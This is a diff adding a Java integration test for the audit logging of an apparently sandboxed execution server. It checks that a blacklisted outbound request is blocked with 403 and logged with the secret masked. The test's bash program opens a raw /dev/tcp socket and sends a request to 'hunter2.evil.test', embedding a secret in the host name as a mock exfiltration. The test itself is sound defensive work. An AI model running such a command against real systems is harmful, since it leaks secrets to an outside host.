@@ -195,6 +195,34 @@ final class AuditIT {
     }
 
     @Test
+    void what_a_program_was_kept_from_is_told_and_everything_if_it_is_to_be() throws IOException {
+        RunningServer server = serve(", \"logDir\": \"logs\"");
+        String program = bash(
+                "exec 3<>/dev/tcp/127.0.0.1/8118; printf 'GET http://hunter2.evil.test/a HTTP/1.0\\r\\n\\r\\n' >&3;"
+                        + " head -n 1 <&3",
+                1);
+        for (boolean listed : new boolean[] {false, true}) {
+            HttpResponse<String> answer = post(
+                    server,
+                    RunningServer.KEY,
+                    "/execute",
+                    "{\"request\": {" + program + "}, \"options\": {\"network\": \"filtered\", \"logNetwork\": "
+                            + listed
+                            + ", \"networkFilter\": {\"blacklist\": [\"evil\"]}, \"secrets\": {\"A\": \"hunter2\"}}}");
+            assertThat(answer.body()).contains("HTTP/1.1 403 Forbidden");
+        }
+        end();
+
+        String event =
+                "\"securityEvents\":[{\"type\":\"network_blocked\",\"message\":\"Security event: network_blocked\","
+                        + "\"details\":{\"method\":\"GET\",\"host\":\"***.evil.test\",\"reason\":\"the blacklist has it\"},";
+        List<String> lines = AuditLines.of(log());
+        assertThat(lines).hasSize(2).allMatch(line -> AuditLines.isWhole(line) && line.contains(event));
+        assertThat(lines.get(0)).doesNotContain("networkLogs");
+        assertThat(lines.get(1)).contains("\"networkLogs\":[{", "\"path\":\"/a\",\"action\":\"BLOCK\"");
+    }
+
+    @Test
     void results_tell_the_cost_as_records_do() throws IOException {
         assertThat(execute(serve(", \"logDir\": \"logs\""), bash("echo hi", 1)).body())
                 .contains("\"resourceUsage\":{\"cpuPercent\":");
